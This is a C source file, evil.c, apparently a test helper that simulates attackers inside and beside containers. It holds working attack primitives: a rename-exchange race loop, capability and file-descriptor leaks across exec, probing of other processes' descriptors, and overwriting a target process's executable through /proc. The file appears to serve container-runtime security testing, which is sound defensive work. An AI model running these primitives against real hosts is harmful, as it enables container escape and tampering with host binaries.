/* evil.c - what attackers run beside and inside containers.
 *
 *	evil COMMAND [ARGUMENT...]: the commands are the table at the end
 *
 * Static and without libraries, so that it runs in any root. Everything ends by itself.
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/capability.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

#define PATIENCE 60.0   /* seconds until what is attacked is there */

static double now(void)
{
	struct timespec ts;

	(void)clock_gettime(CLOCK_MONOTONIC, &ts);
	return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

/* exchange A B SECONDS: the two names swap what they mean, over and over. */
static int do_exchange(int n, char **v)
{
	double end = now() + strtod(v[2], NULL);

	while (now() < end)
		for (int i = 0; i < 1000; i++)
			if (renameat2(AT_FDCWD, v[0], AT_FDCWD, v[1], RENAME_EXCHANGE) < 0) {
				perror("exchange");
				return 1;
			}
	return 0;
}

/* with-caps COMMAND...: all capabilities in the inheritable and ambient sets, as a careless caller has them. */
static int do_with_caps(int n, char **v)
{
	struct __user_cap_header_struct head = { .version = _LINUX_CAPABILITY_VERSION_3 };
	struct __user_cap_data_struct data[2];

	if (syscall(SYS_capget, &head, data) < 0)
		return 1;
	for (int i = 0; i < 2; i++)
		data[i].inheritable = data[i].permitted;
	if (syscall(SYS_capset, &head, data) < 0)
		return 1;
	for (int i = 0; i < 41; i++)
		(void)prctl(PR_CAP_AMBIENT, PR_CAP_AMBIENT_RAISE, i, 0, 0);
	(void)execvp(v[0], v);
	return 1;
}

/* with-fd PATH NUMBER COMMAND...: the descriptor stays open over exec, as a careless caller leaves it. */
static int do_with_fd(int n, char **v)
{
	int want = (int)strtol(v[1], NULL, 10), fd = open(v[0], O_RDONLY);

	if (fd < 0 || (fd != want && dup2(fd, want) < 0))
		return 1;
	if (fd != want)
		(void)close(fd);
	(void)execvp(v[2], v + 2);
	return 1;
}

/* without-stdio COMMAND...: with descriptors 0 to 2 closed. */
static int do_without_stdio(int n, char **v)
{
	for (int fd = 0; fd < 3; fd++)
		(void)close(fd);
	(void)execvp(v[0], v);
	return 1;
}

static int has_word(const char *path, const char *word)
{
	char text[4096];
	int fd = open(path, O_RDONLY);
	ssize_t len = fd < 0 ? -1 : read(fd, text, sizeof text);

	if (fd >= 0)
		(void)close(fd);
	return len > 0 && memmem(text, (size_t)len, word, strlen(word)) != NULL;
}

/* A descriptor of the program file of another process with that word in its command line. */
static int find_exe(const char *word, pid_t *ret_pid)
{
	DIR *d = opendir("/proc");
	struct dirent *de;
	int fd = -1;

	while (d && fd < 0 && (de = readdir(d))) {
		char path[64];

		*ret_pid = (pid_t)strtol(de->d_name, NULL, 10);
		if (*ret_pid <= 1)
			continue;
		(void)snprintf(path, sizeof path, "/proc/%d/cmdline", (int)*ret_pid);
		if (!has_word(path, word))
			continue;
		(void)snprintf(path, sizeof path, "/proc/%d/exe", (int)*ret_pid);
		fd = open(path, O_RDONLY);
	}
	if (d)
		(void)closedir(d);
	return fd;
}

/* overwrite WORD SECONDS: get at the program file of a process that runs WORD, write to it once the process is gone.
 * The time begins with the first such process. */
static int do_overwrite(int n, char **v)
{
	double end = now() + PATIENCE;
	char path[64];
	int seen = 0;

	while (now() < end) {
		pid_t pid;
		int fd = find_exe(v[0], &pid), out = -1;
		double stop = now() + 0.3;

		if (fd < 0)
			continue;
		if (!seen++) {
			puts("seen");
			end = now() + strtod(v[1], NULL);
		}
		(void)fflush(stdout);
		(void)kill(pid, SIGKILL);
		(void)snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
		while (now() < stop && (out = open(path, O_WRONLY)) < 0)
			if (errno != ETXTBSY)
				break;
		if (out >= 0 && pwrite(out, "OWNED", 5, 0) == 5) {
			puts("overwritten");
			return 0;
		}
		(void)close(fd);
	}
	puts("held");
	return 0;
}

/* Where one of its descriptors leads to: the right to know is the right to go there. */
static int can_open_fds(const char *pid)
{
	char path[300], link[256];

	for (int fd = 3; fd < 20; fd++) {
		(void)snprintf(path, sizeof path, "/proc/%s/fd/%d", pid, fd);
		if (readlink(path, link, sizeof link) > 0)
			return 1;
	}
	return 0;
}

/* look WORD SECONDS: says "seen" of processes with the word in their command line, "open" if their descriptors are.
 * The time begins with the first such process. */
static int do_look(int n, char **v)
{
	double end = now() + PATIENCE;
	int seen = 0, opened = 0;

	while (now() < end && !opened) {
		DIR *d = opendir("/proc");
		struct dirent *de;

		while (d && (de = readdir(d))) {
			char words[300];

			if (strtol(de->d_name, NULL, 10) <= 1)
				continue;
			(void)snprintf(words, sizeof words, "/proc/%s/cmdline", de->d_name);
			if (!has_word(words, v[0]))
				continue;
			if (!seen)
				end = now() + strtod(v[1], NULL);
			seen = 1;
			/* It may have become the program meanwhile. */
			if (can_open_fds(de->d_name) && has_word(words, v[0]))
				opened = 1;
		}
		if (d)
			(void)closedir(d);
	}
	printf("%s%s\n", seen ? "seen" : "", opened ? " open" : "");
	return 0;
}

/* terminal: prints the name of a new terminal, then what arrives on it, until its input ends. */
static int do_terminal(int n, char **v)
{
	int master = posix_openpt(O_RDWR | O_NOCTTY), slave;
	char text[256];
	ssize_t len;

	if (master < 0 || unlockpt(master) < 0)
		return 1;
	slave = open(ptsname(master), O_RDWR | O_NOCTTY);
	if (slave < 0)
		return 1;
	puts(ptsname(master));
	(void)fflush(stdout);
	while (read(0, text, sizeof text) > 0)
		;
	(void)fcntl(master, F_SETFL, O_NONBLOCK);
	while ((len = read(master, text, sizeof text)) > 0)
		(void)!write(1, text, (size_t)len);
	return 0;
}

static const struct {
	const char *name;
	int (*run)(int n, char **v);
	int args;
} commands[] = {
	{ "exchange", do_exchange, 3 },   { "with-caps", do_with_caps, 1 }, { "with-fd", do_with_fd, 3 },
	{ "without-stdio", do_without_stdio, 1 }, { "overwrite", do_overwrite, 2 }, { "terminal", do_terminal, 0 },
	{ "look", do_look, 2 },
};

int main(int argc, char **argv)
{
	for (size_t i = 0; argc > 1 && i < sizeof commands / sizeof *commands; i++)
		if (strcmp(commands[i].name, argv[1]) == 0 && argc - 2 >= commands[i].args)
			return commands[i].run(argc - 2, argv + 2);
	fprintf(stderr, "evil: unknown command\n");
	return 99;
}
